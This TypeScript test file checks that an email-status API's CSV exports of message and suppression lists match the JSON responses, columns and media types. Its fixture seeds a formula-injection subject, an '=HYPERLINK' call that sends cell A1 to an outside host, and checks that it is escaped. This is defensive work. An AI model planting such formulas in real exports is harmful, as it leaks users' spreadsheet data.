import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RouteKey } from '../../lambdas/http/contract.ts';
import openapi from '../../lambdas/http/openapi.json' with { type: 'json' };
import { recordsOf } from '../support/csv.ts';
import { anEmail } from '../support/dated-emails.ts';
import { engines } from '../support/engine.ts';
import { type Body, type QueryApi, startQueryApi } from '../support/query-api.ts';
import { bounceEvent, complaintEvent, delayEvent, sendEvent } from '../support/ses-events.ts';

const EMAIL = 'ann@example.com';

const { EmailStatus, Bounce, Complaint, Delay, Suppression, Cause } = openapi.components.schemas;
const within = (name: string, { properties }: { properties: object }) =>
  Object.keys(properties).map((field) => `${name}${field}`);
/** Possible values of a column. */
const FIELDS = [
  ...[...within('', EmailStatus), ...within('bounce.', Bounce), ...within('complaint.', Complaint)],
  ...[...within('delay.', Delay), ...within('', Suppression), ...within('causes.0.', Cause)],
];

/** The lists that are available as CSV, and their parameters. */
const LISTS: readonly [key: RouteKey, parameters: { path?: Record<string, string>; query: string }][] = [
  ['GET /v1/messages', { query: 'from=2026-11-24T00:00:00Z&to=2026-11-25T00:00:00Z&status=bounced*' }],
  ['GET /v1/recipients/{email}/messages', { path: { email: EMAIL }, query: 'from=2026-11-24T00:00:00Z' }],
  ['GET /v1/suppressions', { query: 'reason=bounce' }],
];

describe.each(engines())('lists in CSV on $name', ({ endpoint }) => {
  let api: QueryApi;
  beforeAll(async () => {
    api = await startQueryApi(endpoint);
    const hostile = { subject: '=HYPERLINK("https://club.example/?"&A1,"Hi; -1")', tags: { season: ['@2026'] } };
    for (let n = 0; n < 5; n++) {
      const mail = { messageId: `m${n}`, destination: [n % 2 === 0 ? EMAIL : `p${n}@example.com`], ...hostile };
      await api.record(sendEvent(mail), delayEvent(mail), bounceEvent(mail));
    }
    await api.record(complaintEvent({ messageId: 'm6', destination: [EMAIL] }));
    await api.putRows([anEmail(3, 0, '2026-11-24T23:59:59.999Z')] as Parameters<QueryApi['putRows']>[0]);
  });
  afterAll(() => api.tables.drop());

  describe.each(LISTS)('%s', (key, { path = {}, query }) => {
    it('has the items of the JSON, page by page, and its cursors in a header', async () => {
      let cursor: string | undefined;
      let pages = 0;
      do {
        const parameters = { path, query: `${cursor === undefined ? query : `cursor=${cursor}`}&limit=2` };
        const [json, csv] = [await api.ask(key, parameters), await api.askCsv(key, parameters)];
        const records = recordsOf(csv.body);

        expect(records).toHaveLength(json.body.items.length);
        for (const [index, record] of records.entries()) {
          for (const [column, cell] of Object.entries(record)) {
            expect([column, cell]).toEqual([column, asText(at(json.body.items[index], column))]);
          }
        }
        expect(csv.headers['x-next-cursor']).toBe(json.body.nextCursor);
        cursor = csv.headers['x-next-cursor'];
        pages++;
      } while (cursor !== undefined);

      expect(pages).toBeGreaterThan(0);
    });

    it('has the columns in the contract', async () => {
      const { body } = await api.askCsv(key, { path, query });
      const columns = Object.keys(recordsOf(body)[0] ?? {});

      expect(columns.length).toBeGreaterThan(10);
      for (const column of columns) expect(FIELDS).toContain(column);
    });

    it('has the media type of CSV, and errors in JSON', async () => {
      const { status, headers } = await api.askCsv(key, { path, query });
      const refused = await api.askCsv(key, { path, query: 'limit=0' });

      expect([status, headers['content-type']]).toEqual([200, 'text/csv; charset=utf-8; header=present']);
      expect([refused.status, refused.headers['content-type']]).toEqual([400, 'application/problem+json']);
    });
  });

  it('are the only CSV: other responses are JSON', async () => {
    expect((await api.askCsv('GET /v1/health')).headers['content-type']).toBe('application/json');
  });
});

const at = (item: Body, column: string): unknown =>
  column.split('.').reduce<Body>((value, name) => value?.[name], item);

const asText = (value: unknown): string => {
  const text = typeof value === 'object' && value !== null ? JSON.stringify(value) : String(value ?? '');
  return text.startsWith('=') ? `'${text.replace('; -', ";' -")}` : text;
};
